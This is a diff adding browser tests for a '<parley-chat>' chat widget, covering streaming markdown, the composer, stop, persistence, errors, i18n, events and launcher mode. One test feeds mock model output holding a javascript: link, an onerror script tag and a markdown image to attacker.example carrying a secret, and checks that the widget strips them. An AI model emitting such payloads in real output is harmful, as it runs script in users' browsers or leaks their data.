@@ -1,0 +1,323 @@
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
+import { userEvent } from 'vitest/browser';
+import { createClient } from '@parley/client';
+import '../define.js';
+import type { ParleyChat } from './parley-chat.js';
+import { controlledSse, sse, startMockGateway } from '../testing/mock-gateway.js';
+
+const url = '/api/chat';
+let gateway: Awaited<ReturnType<typeof startMockGateway>>;
+
+beforeAll(async () => {
+  gateway = await startMockGateway();
+});
+afterAll(() => gateway.worker.stop());
+afterEach(() => {
+  gateway.reset();
+  document.body.replaceChildren();
+  document.documentElement.lang = 'en';
+  sessionStorage.clear();
+  localStorage.clear();
+});
+
+async function mount(attributes: Record<string, string> = {}, parent: HTMLElement = document.body): Promise<ParleyChat> {
+  const el = document.createElement('parley-chat');
+  el.setAttribute('endpoint', url);
+  el.setAttribute('protocol', 'parley');
+  for (const [name, value] of Object.entries(attributes)) el.setAttribute(name, value);
+  parent.append(el);
+  await el.updateComplete;
+  return el;
+}
+
+const part = <T extends Element = HTMLElement>(el: ParleyChat, selector: string) => el.shadowRoot!.querySelector<T>(selector);
+const parts = (el: ParleyChat, selector: string) => Array.from(el.shadowRoot!.querySelectorAll<HTMLElement>(selector));
+const answers = (el: ParleyChat) => parts(el, '[part~="message"][part~="assistant"]');
+const lastAnswerText = (el: ParleyChat) => answers(el).at(-1)?.querySelector('parley-markdown')?.textContent ?? '';
+const input = (el: ParleyChat) => part<HTMLTextAreaElement>(el, '[part~="input"]')!;
+
+async function typeAndEnter(el: ParleyChat, text: string): Promise<void> {
+  input(el).focus();
+  await userEvent.keyboard(text);
+  await userEvent.keyboard('{Enter}');
+}
+
+describe('<parley-chat> streaming', () => {
+  it('renders the answer progressively, as markdown, and completely', async () => {
+    const { response, answer } = controlledSse();
+    gateway.serve(url, () => response);
+    const el = await mount();
+    await el.send('hi');
+    answer.text('# Quarterly ');
+    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('Quarterly'));
+    expect(part(el, '[part~="messages"]')!.getAttribute('aria-busy')).toBe('true');
+    expect(part(el, '[part~="stop"]')).not.toBeNull();
+    answer.text('report\n\n- **revenue** up\n- costs down');
+    answer.finish();
+    await vi.waitFor(() => expect(part(el, '[part~="messages"]')!.getAttribute('aria-busy')).toBe('false'));
+    const answerEl = answers(el)[0]!;
+    expect(answerEl.querySelector('h1')?.textContent).toBe('Quarterly report');
+    expect(answerEl.querySelector('li strong')?.textContent).toBe('revenue');
+    expect(answerEl.querySelectorAll('li')).toHaveLength(2);
+    expect(part(el, '[part~="message"][part~="user"]')!.textContent).toContain('hi');
+    expect(part(el, '[part~="stop"]')).toBeNull();
+    expect(gateway.requests[0]!.body.messages.at(-1)).toMatchObject({ role: 'user', content: 'hi' });
+  });
+
+  it('applies the link and image policy to model output', async () => {
+    gateway.serve(url, () =>
+      sse([
+        {
+          type: 'text-delta',
+          delta:
+            '[safe](https://example.com/a) [evil](javascript:alert(1)) <img src=x onerror="alert(1)">\n\n' +
+            '![chart](https://img.corp.example/c.png)\n\n![leak](https://attacker.example/p.png?q=secret)\n',
+        },
+        { type: 'finish', reason: 'stop' },
+      ]),
+    );
+    const el = await mount({ 'image-hosts': 'img.corp.example' });
+    await el.send('links');
+    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('safe'));
+    await vi.waitFor(() => expect(part(el, '[part~="messages"]')!.getAttribute('aria-busy')).toBe('false'));
+    const answerEl = answers(el)[0]!;
+    const safe = answerEl.querySelector<HTMLAnchorElement>('a[href="https://example.com/a"]')!;
+    expect(safe.target).toBe('_blank');
+    expect(safe.rel).toContain('noopener');
+    expect(safe.rel).toContain('noreferrer');
+    expect(answerEl.querySelector('a[href^="javascript"]')).toBeNull();
+    expect(answerEl.textContent).toContain('<img src=x onerror="alert(1)">');
+    const images = Array.from(answerEl.querySelectorAll('img')).map((img) => img.getAttribute('src'));
+    expect(images).toEqual(['https://img.corp.example/c.png']);
+    expect(answerEl.textContent).toContain('attacker.example');
+  });
+});
+
+describe('<parley-chat> composer', () => {
+  it('sends on Enter once, keeps Shift+Enter as a new line, and never sends on IME Enter', async () => {
+    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'ok' }, { type: 'finish', reason: 'stop' }]));
+    const el = await mount();
+    const box = input(el);
+    box.focus();
+    await userEvent.keyboard('first line{Shift>}{Enter}{/Shift}second');
+    expect(box.value).toBe('first line\nsecond');
+
+    // Chinese IME: the Enter that confirms a candidate arrives with isComposing / keyCode 229.
+    box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, composed: true, cancelable: true }));
+    box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', keyCode: 229, bubbles: true, composed: true, cancelable: true }));
+    await el.updateComplete;
+    expect(gateway.requests).toHaveLength(0);
+    expect(parts(el, '[part~="message"]')).toHaveLength(0);
+
+    // Two Enters in the same task: one request.
+    box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true, cancelable: true }));
+    box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true, cancelable: true }));
+    await vi.waitFor(() => expect(lastAnswerText(el)).toBe('ok'));
+    await vi.waitFor(() => expect(el.conversation.getSnapshot().status).toBe('idle'));
+    expect(gateway.requests).toHaveLength(1);
+    expect(gateway.requests[0]!.body.messages.at(-1)).toMatchObject({ role: 'user', content: 'first line\nsecond' });
+    expect(box.value).toBe('');
+    expect(parts(el, '[part~="message"][part~="user"]')).toHaveLength(1);
+  });
+
+  it('sends once on a double click of Send', async () => {
+    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'once' }, { type: 'finish', reason: 'stop' }]));
+    const el = await mount();
+    input(el).focus();
+    await userEvent.keyboard('hello');
+    await userEvent.dblClick(part(el, '[part~="send"]')!);
+    await vi.waitFor(() => expect(lastAnswerText(el)).toBe('once'));
+    await vi.waitFor(() => expect(el.conversation.getSnapshot().status).toBe('idle'));
+    expect(gateway.requests).toHaveLength(1);
+  });
+
+  it('Stop keeps the partial answer and marks it stopped', async () => {
+    const { response, answer } = controlledSse();
+    gateway.serve(url, () => response);
+    const el = await mount();
+    await typeAndEnter(el, 'long question');
+    answer.text('The first half');
+    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('The first half'));
+    await userEvent.click(part(el, '[part~="stop"]')!);
+    await answer.cancelled;
+    await vi.waitFor(() => expect(part(el, '[part~="stop"]')).toBeNull());
+    expect(lastAnswerText(el)).toContain('The first half');
+    expect(answers(el)[0]!.textContent).toContain('Stopped');
+    expect(el.conversation.getSnapshot().messages.at(-1)?.finishReason).toBe('abort');
+  });
+
+  it('restores the conversation and the draft in a re-created element with the same conversation-id', async () => {
+    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'remembered answer' }, { type: 'finish', reason: 'stop' }]));
+    const first = await mount({ 'conversation-id': 'orders' });
+    await first.send('remember me');
+    await vi.waitFor(() => expect(first.conversation.getSnapshot().status).toBe('idle'));
+    input(first).focus();
+    await userEvent.keyboard('unsent draft');
+    first.remove();
+
+    const second = await mount({ 'conversation-id': 'orders' });
+    await vi.waitFor(() => expect(lastAnswerText(second)).toBe('remembered answer'));
+    expect(part(second, '[part~="message"][part~="user"]')!.textContent).toContain('remember me');
+    await vi.waitFor(() => expect(input(second).value).toBe('unsent draft'));
+
+    const other = await mount({ 'conversation-id': 'invoices' });
+    expect(parts(other, '[part~="message"]')).toHaveLength(0);
+  });
+});
+
+describe('<parley-chat> errors', () => {
+  it('says the gateway is down in the person’s language and retries on request', async () => {
+    gateway.serve(url, (_request, index) =>
+      index === 0
+        ? new Response('bad gateway', { status: 502 })
+        : sse([{ type: 'text-delta', delta: 'back again' }, { type: 'finish', reason: 'stop' }]),
+    );
+    const el = await mount();
+    el.client = createClient({ url, protocol: 'parley', retry: false });
+    const errors: unknown[] = [];
+    el.addEventListener('parley-error', (event) => errors.push(event.detail.error));
+    await el.send('are you there?');
+    const alert = await vi.waitFor(() => {
+      const found = part(el, '[role="alert"]');
+      expect(found).not.toBeNull();
+      return found!;
+    });
+    expect(alert.textContent).toContain('cannot be reached');
+    expect(errors).toHaveLength(1);
+    expect(errors[0]).toMatchObject({ status: 502 });
+    await userEvent.click(alert.querySelector('button')!);
+    await vi.waitFor(() => expect(lastAnswerText(el)).toBe('back again'));
+    expect(part(el, '[role="alert"]')).toBeNull();
+    expect(gateway.requests).toHaveLength(2);
+  });
+
+  it('tells a signed-out person to sign in, and a rate-limited one to wait (in Chinese too)', async () => {
+    gateway.serve(url, (_request, index) =>
+      index === 0
+        ? new Response('{"error":{"message":"no session"}}', { status: 401, headers: { 'content-type': 'application/json' } })
+        : new Response('slow down', { status: 429 }),
+    );
+    const el = await mount({ lang: 'zh-CN' });
+    el.client = createClient({ url, protocol: 'parley', retry: false });
+    await el.send('你好');
+    await vi.waitFor(() => expect(part(el, '[role="alert"]')?.textContent).toContain('您已退出登录'));
+    await userEvent.click(part(el, '[role="alert"] button')!);
+    await vi.waitFor(() => expect(part(el, '[role="alert"]')?.textContent).toContain('当前请求过多'));
+  });
+});
+
+describe('<parley-chat> i18n', () => {
+  it('follows its lang attribute, the page language, and host overrides', async () => {
+    document.documentElement.lang = 'zh-CN';
+    const el = await mount();
+    expect(input(el).placeholder).toBe('请输入您的问题…');
+    expect(part(el, '[part~="send"]')!.textContent!.trim()).toBe('发送');
+
+    el.setAttribute('lang', 'en');
+    await el.updateComplete;
+    expect(part(el, '[part~="send"]')!.textContent!.trim()).toBe('Send');
+
+    el.removeAttribute('lang');
+    document.documentElement.lang = 'en-GB';
+    await vi.waitFor(() => expect(input(el).placeholder).toBe('Ask a question…'));
+
+    el.labels = { send: 'Ask', heading: 'ERP helper' };
+    await el.updateComplete;
+    expect(part(el, '[part~="send"]')!.textContent!.trim()).toBe('Ask');
+    expect(part(el, '[part~="header"]')!.textContent).toContain('ERP helper');
+  });
+});
+
+describe('<parley-chat> instances and lifecycle', () => {
+  it('keeps two instances on one page independent', async () => {
+    gateway.serve(url, (request) =>
+      sse([{ type: 'text-delta', delta: `echo: ${String(request.body.messages.at(-1)?.content)}` }, { type: 'finish', reason: 'stop' }]),
+    );
+    const a = await mount();
+    const b = await mount();
+    await a.send('alpha');
+    await vi.waitFor(() => expect(lastAnswerText(a)).toBe('echo: alpha'));
+    expect(parts(b, '[part~="message"]')).toHaveLength(0);
+    await b.send('beta');
+    await vi.waitFor(() => expect(lastAnswerText(b)).toBe('echo: beta'));
+    expect(answers(a)).toHaveLength(1);
+    expect(lastAnswerText(a)).toBe('echo: alpha');
+    expect(gateway.requests[1]!.body.messages).toHaveLength(1);
+  });
+
+  it('aborts its request when removed from the page', async () => {
+    const { response, answer } = controlledSse();
+    gateway.serve(url, () => response);
+    const el = await mount();
+    await el.send('a long one');
+    answer.text('partial');
+    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('partial'));
+    el.remove();
+    await answer.cancelled;
+  });
+
+  it('fires parley-send and parley-response with their details, bubbling out of the page', async () => {
+    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'Done **now**' }, { type: 'finish', reason: 'stop' }]));
+    const el = await mount();
+    const seen: Array<{ type: string; detail: unknown; composed: boolean }> = [];
+    for (const type of ['parley-send', 'parley-response'] as const) {
+      document.addEventListener(type, (event) => seen.push({ type, detail: event.detail, composed: event.composed }));
+    }
+    await typeAndEnter(el, 'status?');
+    await vi.waitFor(() => expect(seen.map((event) => event.type)).toEqual(['parley-send', 'parley-response']));
+    expect(seen[0]).toEqual({ type: 'parley-send', detail: { text: 'status?' }, composed: true });
+    const { message } = seen[1]!.detail as { message: { role: string; parts: Array<{ type: string; text?: string }> } };
+    expect(message.role).toBe('assistant');
+    expect(message.parts).toContainEqual({ type: 'text', text: 'Done **now**' });
+  });
+
+  it('announces a finished answer once in a polite live region, not per token', async () => {
+    const { response, answer } = controlledSse();
+    gateway.serve(url, () => response);
+    const el = await mount();
+    const live = part(el, '[aria-live="polite"]')!;
+    const heard: string[] = [];
+    new MutationObserver(() => heard.push(live.textContent!.trim())).observe(live, { childList: true, subtree: true, characterData: true });
+    await el.send('hi');
+    for (const word of ['One ', 'two ', 'three ', '**four**']) {
+      answer.text(word);
+      await vi.waitFor(() => expect(lastAnswerText(el)).toContain(word.replace(/\*/g, '')));
+    }
+    answer.finish();
+    await vi.waitFor(() => expect(live.textContent).toContain('One two three four'));
+    await el.updateComplete;
+    expect(heard.filter(Boolean)).toEqual(['Responding…', 'Assistant: One two three four']);
+  });
+});
+
+describe('<parley-chat mode="launcher">', () => {
+  it('opens from the launcher, closes with Escape, and returns focus to the launcher', async () => {
+    const el = await mount({ mode: 'launcher' });
+    const launcher = part(el, '[part~="launcher"]')!;
+    const panel = part(el, '[part~="panel"]')!;
+    expect(panel.hidden).toBe(true);
+    const events: string[] = [];
+    el.addEventListener('parley-open', () => events.push('open'));
+    el.addEventListener('parley-close', () => events.push('close'));
+
+    launcher.focus();
+    await userEvent.keyboard('{Enter}');
+    await el.updateComplete;
+    expect(el.hasAttribute('open')).toBe(true);
+    expect(panel.hidden).toBe(false);
+    expect(el.shadowRoot!.activeElement).toBe(input(el));
+
+    await userEvent.keyboard('{Escape}');
+    await el.updateComplete;
+    expect(panel.hidden).toBe(true);
+    expect(el.shadowRoot!.activeElement).toBe(launcher);
+    expect(launcher.getAttribute('aria-expanded')).toBe('false');
+
+    el.open();
+    await el.updateComplete;
+    expect(panel.hidden).toBe(false);
+    el.close();
+    await el.updateComplete;
+    expect(events).toEqual(['open', 'close', 'open', 'close']);
+  });
+});
